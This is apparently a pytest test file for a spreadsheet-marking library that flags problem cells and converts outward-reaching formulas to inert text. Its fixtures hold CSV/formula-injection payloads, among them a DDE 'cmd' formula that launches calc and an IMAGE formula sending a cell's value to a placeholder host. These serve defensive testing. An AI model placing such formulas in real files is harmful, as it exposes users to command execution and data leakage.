"""Marked copies: every problem where it stands, a list in front, and nothing that could do harm."""

from __future__ import annotations

import io
import tracemalloc

import openpyxl
import pytest
from outcomes_documents import mark, mark_values
from outcomes_documents.reading import read


def plan(*problems: dict, **more) -> dict:
    return {
        "sheetName": "Problems",
        "title": "2 problems",
        "headings": ["Sheet", "Cell", "What is there", "What to do"],
        "rowHeading": "Row in your file",
        "headerRows": {},
        "problems": list(problems),
        **more,
    }


def problem(sheet: str, row: int, column: int, text: str = "=1+1") -> dict:
    return {"at": [sheet, row, column], "texts": [sheet, "B2", text, "Write a number"], "comment": f"Not {text}"}


def copy_of(path: str, asked: dict):
    return openpyxl.load_workbook(io.BytesIO(mark.marked(path, asked)[1][0]))


@pytest.fixture
def book(tmp_path):
    made = openpyxl.Workbook()
    page = made.active
    page.title = "Value map"
    page.append(["Outcome", "Quantity"])
    page.append(["More confident", "lots"])
    page.append(["=cmd|' /C calc'!A0", "=1+1"])
    page.append(["=[1]Other!A1", '=HYPERLINK("http://x","y")'])
    path = tmp_path / "book.xlsx"
    made.save(path)
    return str(path)


def test_a_problem_is_marked_in_its_cell_and_listed_in_front(book):
    copy = copy_of(book, plan(problem("Value map", 1, 1, "lots"), {"texts": ["", "", "x", "y"], "comment": ""}))
    assert copy.sheetnames == ["Problems", "Value map"]
    cell = copy["Value map"]["B2"]
    assert cell.value == "lots"
    assert cell.comment.text == "Not lots"
    assert cell.fill.start_color.rgb.endswith("FFF3D6")
    listed = [[entry.value for entry in row] for row in copy["Problems"].iter_rows(min_row=3)]
    assert listed == [
        ["Sheet", "Cell", "What is there", "What to do"],
        ["Value map", "B2", "lots", "Write a number"],
        [None, None, "x", "y"],
    ]


def test_formulas_that_reach_out_become_text_and_others_stay(book):
    page = copy_of(book, plan())["Value map"]
    assert page["B3"].data_type == "f"
    for address in ("A3", "A4", "B4"):
        assert page[address].data_type == "s", address


def test_what_stood_in_a_cell_is_listed_as_text(book):
    listed = copy_of(book, plan(problem("Value map", 1, 1)))["Problems"]
    assert (listed["C4"].data_type, listed["C4"].value) == ("s", "=1+1")


def test_a_sheet_of_the_same_name_stays_beside_the_list(tmp_path):
    made = openpyxl.Workbook()
    made.active.title = "problems"
    made.active["A1"] = 1
    made.save(tmp_path / "book.xlsx")
    assert copy_of(str(tmp_path / "book.xlsx"), plan()).sheetnames == ["Problems 2", "problems"]


def test_control_characters_are_shown_and_not_copied(tmp_path):
    path = tmp_path / "people.csv"
    path.write_text("a,b\nx\x01y,2\n")
    copy = copy_of(str(path), plan(problem("CSV", 1, 0, "x\x01y")))
    assert copy["CSV"]["A2"].value == "x\ufffdy"
    assert copy["CSV"]["A2"].comment.text == "Not x\ufffdy"


def test_a_text_file_becomes_a_workbook_of_text(tmp_path):
    path = tmp_path / "people.csv"
    path.write_text("Person,Score\nA,=cmd|x\n")
    page = copy_of(str(path), plan(problem("CSV", 1, 1)))["CSV"]
    assert (page["B2"].data_type, page["B2"].value) == ("s", "=cmd|x")
    assert page["B2"].comment is not None


def test_of_a_large_workbook_only_headers_and_rows_with_problems_are_copied(tmp_path, monkeypatch):
    monkeypatch.setattr(mark, "MOST_COPIED", 50)
    path = tmp_path / "people.csv"
    path.write_text("Title,,\nPerson,Score,Date\n" + "".join(f"P{n},{n},2026\n" for n in range(100)))
    asked = plan(problem("CSV", 41, 1, "39"), headerRows={"CSV": 1})
    page = copy_of(str(path), asked)["CSV"]
    assert [[cell.value for cell in row] for row in page.iter_rows()] == [
        ["Row in your file", None, None, None],
        [2, "Person", "Score", "Date"],
        [42, "P39", "39", "2026"],
    ]
    assert page["C3"].comment.text == "Not 39"


def test_a_cell_merged_over_the_whole_sheet_is_copied_in_little_room(book):
    made = openpyxl.load_workbook(book)
    made["Value map"].merged_cells.ranges.add("A4:XFD1048576")
    made.save(book)
    tracemalloc.start()
    copy = copy_of(book, plan(problem("Value map", 1, 1, "lots")))
    most = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert copy["Value map"]["B2"].comment.text == "Not lots"
    assert most < 20_000_000


def test_percentages_of_a_sheet_stay_percentages(ods):
    rows = (
        '<table:table table:name="Map"><table:table-row><table:table-cell office:value-type="percentage" '
        'office:value="0.25"/></table:table-row></table:table>'
    )
    content = mark_values.with_values(read(ods(rows))[1], plan(), whole=True)
    cell = openpyxl.load_workbook(io.BytesIO(content))["Map"]["A1"]
    assert (cell.value, cell.number_format) == (0.25, "0.##%")


@pytest.mark.parametrize(
    "formula",
    [
        "='a\"'!A1+cmd|'/c calc \"'!A0",
        '=_xlfn.IMAGE("http://x/?"&A1)',
        '=IMPORTXML("http://x","//a")',
        "=[1]Sheet1!A1",
    ],
)
def test_a_formula_that_reaches_out_is_known_however_it_is_quoted(formula):
    assert mark.reaches_out(formula)


@pytest.mark.parametrize("formula", ['="a|b"&A1', "='Our sheet'!A1*2", "=SUM(IMAGES!A1:A3)"])
def test_an_honest_formula_stays_one(formula):
    assert not mark.reaches_out(formula)
